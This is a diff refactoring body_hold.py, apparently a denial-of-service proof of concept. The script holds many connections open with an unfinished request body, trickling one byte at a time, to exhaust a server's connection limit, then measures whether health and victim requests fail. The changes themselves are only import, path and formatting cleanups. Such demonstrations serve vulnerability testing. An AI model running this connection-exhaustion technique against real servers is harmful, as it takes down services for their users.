@@ -7,7 +7,13 @@ max_connections (4096) every new connection, health probes included, is refused.
 
 Usage: body_hold.py HOST PORT N [seconds] [KEY for the victim request]
 """
-import http.client, socket, sys, time
+
+import http.client
+import os
+import socket
+import sys
+import time
+from pathlib import Path
 
 HOST, PORT, N = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
 SECONDS = float(sys.argv[4]) if len(sys.argv) > 4 else 8
@@ -26,7 +32,7 @@ print(f"{len(socks)} connections holding a body", flush=True)
 time.sleep(1)
 bad = 0
 t_end = time.monotonic() + SECONDS
-body = open("/tmp/rt9/demo/request.json").read()
+body = Path(os.environ.get("REQUEST_JSON", "demo/request.json")).read_text()
 while time.monotonic() < t_end:
     probes = [("/v2/health/live", None, {})]
     if VKEY:
@@ -36,13 +42,21 @@ while time.monotonic() < t_end:
         try:
             c = http.client.HTTPConnection(HOST, PORT, timeout=3)
             c.request("GET" if b is None else "POST", path, body=b, headers=h)
-            r = c.getresponse(); d = r.read(); st = r.status
+            r = c.getresponse()
+            d = r.read()
+            st = r.status
         except Exception as e:
             st, d = 0, repr(e).encode()
         dt = time.monotonic() - t0
         ok = st == 200 and dt < 1
         bad += not ok
-        print(path, st, f"{dt*1000:.0f} ms", "OK" if ok else "FAIL " + d[:100].decode(errors="replace"), flush=True)
+        print(
+            path,
+            st,
+            f"{dt * 1000:.0f} ms",
+            "OK" if ok else "FAIL " + d[:100].decode(errors="replace"),
+            flush=True,
+        )
     for s in socks:
         try:
             s.sendall(b" ")
